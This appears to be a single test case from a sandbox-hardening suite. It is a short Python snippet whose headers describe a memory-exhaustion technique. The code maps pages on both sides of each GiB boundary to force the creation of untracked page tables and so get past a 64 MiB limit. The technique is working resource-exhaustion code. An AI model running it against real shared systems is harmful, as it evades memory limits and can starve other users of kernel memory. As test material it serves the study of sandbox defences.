# class: exhaustion
# technique: one page on both sides of each GiB: little memory, and many page tables
# layers: supervisor
# single: page tables count for no limit, and the filter cannot know where there are any
# code: native
# limits: memory_mib=64
# control: the watch over memory is always on
# witness: memory

MAP_FIXED_NOREPLACE = 0x100000
for number in range(1, 20000):
    at = 0x100000000000 + (number << 30) - 4096
    if raw(host["calls"]["mmap"], at, 8192, 3, 0x22 | MAP_FIXED_NOREPLACE, -1, 0) == at:
        ctypes.memset(at, 1, 8192)
time.sleep(0.2)
return escaped("80000 page tables")
